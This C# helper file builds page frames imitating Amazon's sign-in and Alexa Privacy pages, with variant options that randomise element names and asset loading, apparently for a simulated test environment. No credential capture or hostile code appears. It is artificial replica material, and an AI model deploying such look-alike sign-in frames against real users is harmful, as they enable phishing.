using System.Net;
using System.Reflection;
using System.Text.Json;

namespace AlexaPrivacy.Replica;

/// <summary>Page frames and small HTML helpers shared by the sign-in and privacy pages.</summary>
public static class Html
{
    private static readonly Dictionary<string, string> AssetCache = new();

    /// <summary>An embedded asset (Assets/*) as text.</summary>
    public static string Asset(string name)
    {
        lock (AssetCache)
        {
            if (AssetCache.TryGetValue(name, out var text)) return text;
            using var stream = Assembly.GetExecutingAssembly().GetManifestResourceStream("Assets." + name)
                ?? throw new InvalidOperationException("Missing embedded asset " + name);
            using var reader = new StreamReader(stream);
            return AssetCache[name] = reader.ReadToEnd();
        }
    }

    public static string E(string text) => WebUtility.HtmlEncode(text ?? "");

    /// <summary>JSON safe to put inside a script element.</summary>
    public static string Json(object value) =>
        JsonSerializer.Serialize(value).Replace("<", "\\u003c").Replace(">", "\\u003e").Replace("&", "\\u0026");

    public static IResult Page(string html, int status = 200) =>
        Results.Content(html, "text/html; charset=utf-8", System.Text.Encoding.UTF8, status);

    /// <summary>The frame of Amazon's sign-in pages: logo, one centred box, footer.</summary>
    public static string AuthFrame(Texts t, string title, Variant v, string body) => $$"""
        <!DOCTYPE html>
        <html lang="{{t.HtmlLang}}" class="a-no-js">
        <head>
        <meta charset="utf-8">
        <meta name="viewport" content="width=device-width, initial-scale=1">
        <title dir="ltr">{{E(title)}}</title>
        {{Stylesheet(v, "/ap/static/site.css")}}
        </head>
        <body class="auth-page">
        <div id="a-page">
          <div class="a-section a-padding-medium auth-workflow">
            <div class="a-section a-spacing-none auth-navbar">
              <div class="a-section a-spacing-medium a-text-center">
                <a class="a-link-nav-icon" href="/alexa-privacy/apd/home" aria-label="Amazon"><span class="a-logo">amazon</span></a>
              </div>
            </div>
            <div id="authportal-center-section" class="a-section">
              <div id="authportal-main-section" class="a-section">
        {{body}}
              </div>
            </div>
            <div id="right-2"></div>
          </div>
          <div class="a-divider a-divider-section"><div class="a-divider-inner"></div></div>
          <div id="footer" class="a-section auth-footer">
            <div class="a-section a-spacing-small a-text-center a-size-mini">
              <a class="a-link-normal" href="/gp/help/customer/display.html?nodeId=508088">{{E(t["frame.conditions"])}}</a>
              <a class="a-link-normal" href="/gp/help/customer/display.html?nodeId=468496">{{E(t["frame.privacyNotice"])}}</a>
              <a class="a-link-normal" href="/gp/help/customer/display.html">{{E(t["signin.needHelp"])}}</a>
            </div>
            <div class="a-section a-spacing-none a-text-center"><span class="a-size-mini a-color-secondary">{{E(t["frame.copyright"])}}</span></div>
          </div>
        </div>
        </body>
        </html>
        """;

    /// <summary>The frame of the Alexa Privacy pages: navigation bar, csrf token, one main region.</summary>
    public static string PrivacyFrame(Texts t, string title, string csrfToken, string customerName, string main, string script = null, object config = null) => $$"""
        <!DOCTYPE html>
        <html lang="{{t.HtmlLang}}">
        <head>
        <meta charset="utf-8">
        <meta name="viewport" content="width=device-width, initial-scale=1">
        <meta name="csrf-token" content="{{E(csrfToken)}}">
        <title>{{E(title)}}</title>
        <style>{{Asset("site.css")}}</style>
        </head>
        <body class="privacy-page">
        <header id="navbar" class="nav-bar">
          <a id="nav-logo" href="/alexa-privacy/apd/home" aria-label="Amazon"><span class="nav-logo-text">amazon</span></a>
          <a id="nav-privacy" class="nav-link" href="/alexa-privacy/apd/home">{{E(t["frame.privacyHub"])}}</a>
          <span class="nav-fill"></span>
          <span id="nav-greeting" class="nav-greeting">{{E(t["frame.hello"])}}, {{E(customerName)}}</span>
          <a id="nav-item-signout" class="nav-link" href="/gp/flex/sign-out.html?action=sign-out">{{E(t["frame.signOut"])}}</a>
        </header>
        <main id="main" class="privacy-main">
        {{main}}
        </main>
        <footer class="privacy-footer"><span class="a-size-mini a-color-secondary">{{E(t["frame.copyright"])}}</span></footer>
        {{(config == null ? "" : "<script id=\"page-config\" type=\"application/json\">" + Json(config) + "</script>")}}
        {{(script == null ? "" : "<script>" + script + "</script>")}}
        </body>
        </html>
        """;

    /// <summary>The frame of the Alexa Privacy pages with its scripts (embedded assets, in order), default or variant.</summary>
    public static string PrivacyFrame(Texts t, string title, string csrfToken, string customerName, string main, string[] scripts, object config, Variant v)
    {
        if (v == null)
            return PrivacyFrame(t, title, csrfToken, customerName, main, scripts == null ? null : string.Concat(scripts.Select(Asset)), config);
        if (scripts != null && v.Is("pageHeading", "script"))
            main = System.Text.RegularExpressions.Regex.Replace(main, "<h1>[^<]*</h1>\\s*", "", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(1));
        string page = PrivacyFrame(t, title, csrfToken, customerName, main, null, null);
        page = page.Replace("<style>" + Asset("site.css") + "</style>", "@@STYLE@@");
        if (v.Is("names", "random")) page = MangleNames(page, v);
        string style = v.Is("assets", "external")
            ? $"<link rel=\"stylesheet\" href=\"{PrivacyPages.Prefix}/static/site.css?v={v.Seed}\">"
            : "<style>" + PrivacyCss(v) + "</style>";
        var tail = new System.Text.StringBuilder();
        if (config != null)
        {
            var node = System.Text.Json.Nodes.JsonNode.Parse(JsonSerializer.Serialize(config));
            node["variant"] = System.Text.Json.Nodes.JsonNode.Parse(JsonSerializer.Serialize(v.ToConfig()));
            node["heading"] = title;
            tail.Append("<script type=\"application/json\"").Append(v.Is("names", "random") ? "" : " id=\"page-config\"").Append('>').Append(Json(node)).Append("</script>\n");
        }
        if (scripts != null)
        {
            if (v.Is("assets", "external"))
                foreach (var name in scripts) tail.Append($"<script src=\"{PrivacyPages.Prefix}/static/{name}?v={v.Seed}\"></script>\n");
            else tail.Append("<script>").Append(string.Concat(scripts.Select(Asset))).Append("</script>\n");
        }
        int body = page.LastIndexOf("</body>", StringComparison.Ordinal);
        return page[..body].Replace("@@STYLE@@", style) + tail + page[body..];
    }

    /// <summary>A privacy page without scripts (hub, activity), default or variant.</summary>
    public static string PrivacyFrame(Texts t, string title, string csrfToken, string customerName, string[] scripts, object config, Variant v, string main) =>
        PrivacyFrame(t, title, csrfToken, customerName, main, scripts, config, v);

    /// <summary>The stylesheet of the privacy pages in a variant: site.css plus the variant's own rules, names renamed under names=random.</summary>
    public static string PrivacyCss(Variant v)
    {
        string css = Asset("site.css") + "\n" + Asset("variant.css");
        if (v == null || !v.Is("names", "random")) return css;
        // Rename .class and #id in selectors only (never in declarations such as colours).
        return System.Text.RegularExpressions.Regex.Replace(css, @"(^|\})([^{}]*)\{", m =>
            m.Groups[1].Value + System.Text.RegularExpressions.Regex.Replace(m.Groups[2].Value, @"([.#])([A-Za-z][\w-]*)", n => n.Groups[1].Value + v.Mangle(n.Groups[2].Value)) + "{");
    }

    /// <summary>Renames every id, class and id reference in server-rendered privacy HTML (names=random).</summary>
    public static string MangleNames(string html, Variant v) =>
        System.Text.RegularExpressions.Regex.Replace(html, "\\b(id|class|for|aria-labelledby|aria-describedby|aria-controls)=\"([^\"]*)\"", m =>
            m.Groups[1].Value + "=\"" + string.Join(" ", m.Groups[2].Value.Split(' ', StringSplitOptions.RemoveEmptyEntries).Select(v.Mangle)) + "\"");

    /// <summary>The site stylesheet, inline (default) or (variant assets=external) as its own request.</summary>
    public static string Stylesheet(Variant v, string url) =>
        v?.Is("assets", "external") == true
            ? $"<link rel=\"stylesheet\" href=\"{url}?v={v.Seed}\">"
            : "<style>" + Asset("site.css") + "</style>";

    /// <summary>The error box of the sign-in pages, or nothing.</summary>
    public static string ErrorBox(Texts t, string message) => message == null ? "" : $$"""
        <div id="auth-error-message-box" class="a-box a-alert a-alert-error auth-server-side-message-box a-spacing-base" role="alert">
          <div class="a-box-inner a-alert-container">
            <h4 class="a-alert-heading">{{E(t["signin.problem"])}}</h4>
            <i class="a-icon a-icon-alert"></i>
            <div class="a-alert-content">
              <ul class="a-unordered-list a-nostyle a-vertical a-spacing-none">
                <li><span class="a-list-item">{{E(message)}}</span></li>
              </ul>
            </div>
          </div>
        </div>
        """;

    /// <summary>The warning box of the sign-in pages, or nothing.</summary>
    public static string WarningBox(Texts t, string message) => message == null ? "" : $$"""
        <div id="auth-warning-message-box" class="a-box a-alert a-alert-warning auth-server-side-message-box a-spacing-base" role="alert">
          <div class="a-box-inner a-alert-container">
            <h4 class="a-alert-heading">{{E(t["signin.important"])}}</h4>
            <i class="a-icon a-icon-alert"></i>
            <div class="a-alert-content">{{E(message)}}</div>
          </div>
        </div>
        """;
}
